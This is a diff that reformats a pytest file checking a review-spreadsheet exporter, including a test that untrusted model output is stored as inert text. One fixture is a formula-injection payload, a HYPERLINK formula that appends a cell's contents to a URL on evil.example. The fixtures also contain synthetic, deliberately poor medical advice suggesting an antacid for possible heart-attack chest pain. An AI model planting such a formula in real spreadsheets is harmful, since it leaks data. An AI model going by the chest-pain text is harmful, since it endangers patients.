@@ -22,8 +22,14 @@ import pytest
 from openpyxl.utils import get_column_letter
 
 from goldboard.exports.workbook import (
-    BOUNDARY_FILLS, HEADER_FILL, INPUT_HEADER_FILL, LINE_HEIGHT, MAX_LINES, MAX_ROW_HEIGHT,
-    write_review_workbook, wrapped_lines,
+    BOUNDARY_FILLS,
+    HEADER_FILL,
+    INPUT_HEADER_FILL,
+    LINE_HEIGHT,
+    MAX_LINES,
+    MAX_ROW_HEIGHT,
+    wrapped_lines,
+    write_review_workbook,
 )
 from goldboard.label_configs.schema import load_schema
 
@@ -31,8 +37,10 @@ sys.path.insert(0, str(Path(__file__).resolve().parent))
 from test_flags import medfail_rows, mtb_table, ratings_frame  # noqa: E402
 
 EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Click for your results")'
-PARA = ("Chest pain in a 58-year-old man with diabetes may be reflux, but it can also be a heart attack. "
-        "Try an antacid and lie down; if it does not settle in a few hours, book a GP appointment. ")
+PARA = (
+    "Chest pain in a 58-year-old man with diabetes may be reflux, but it can also be a heart attack. "
+    "Try an antacid and lie down; if it does not settle in a few hours, book a GP appointment. "
+)
 LONG_RATIONALE = "I would call this a 5: no advice to call emergency services. " * 6
 
 
@@ -47,14 +55,23 @@ def medfail_book(tmp_path_factory):
     ratings = ratings_frame(rows)
     ratings["task_id"] = [str(10 + k) for k in range(len(ratings))]
     ratings["project_id"] = "3"
-    units = pd.DataFrame({
-        "item_id": [f"M{i}" for i in range(1, 10)],
-        "case_text": ["58M, crushing central chest pain 40 min, radiating to jaw, sweaty. Asked what to do."] * 9,
-        "output_text": [PARA * 500, EVIL] + ["Rest."] * 7,  # M1: 92,500 characters
-    })
+    units = pd.DataFrame(
+        {
+            "item_id": [f"M{i}" for i in range(1, 10)],
+            "case_text": ["58M, crushing central chest pain 40 min, radiating to jaw, sweaty. Asked what to do."] * 9,
+            "output_text": [PARA * 500, EVIL] + ["Rest."] * 7,  # M1: 92,500 characters
+        }
+    )
     path = tmp_path_factory.mktemp("wb") / "review.xlsx"
-    write_review_workbook(path, ratings, schema, raters=["r1", "r2"], units=units, base_url="http://ls:8080",
-                          study_info={"study": "synthetic", "round": 1})
+    write_review_workbook(
+        path,
+        ratings,
+        schema,
+        raters=["r1", "r2"],
+        units=units,
+        base_url="http://ls:8080",
+        study_info={"study": "synthetic", "round": 1},
+    )
     return openpyxl.load_workbook(path)
 
 
@@ -129,13 +146,16 @@ def test_fill_in_columns_marked_and_untrusted_text_inert(medfail_book):
             c = ws.cell(r, col[h])
             assert not c.protection.locked and _rgb(c.fill.fgColor) == "FFFFFF"
         assert ws.cell(r, col["Flags"]).protection.locked
-    evil = next(ws.cell(r, col["Model output"]) for r in range(2, ws.max_row + 1)
-                if ws.cell(r, col["Item ID"]).value == "M2")
+    evil = next(
+        ws.cell(r, col["Model output"]) for r in range(2, ws.max_row + 1) if ws.cell(r, col["Item ID"]).value == "M2"
+    )
     assert evil.value == "'" + EVIL and evil.data_type == "s"
     # each Decision cell carries exactly its field's dropdown
     lists = medfail_book["_lists"]
-    ranges = {lists.cell(1, j).value: f"=_lists!${get_column_letter(j)}$2:${get_column_letter(j)}${lists.max_row}"
-              for j in range(1, lists.max_column + 1)}
+    ranges = {
+        lists.cell(1, j).value: f"=_lists!${get_column_letter(j)}$2:${get_column_letter(j)}${lists.max_row}"
+        for j in range(1, lists.max_column + 1)
+    }
     dvs = ws.data_validations.dataValidation
     for r in range(2, ws.max_row + 1):
         field = ws.cell(r, col["Field"]).value
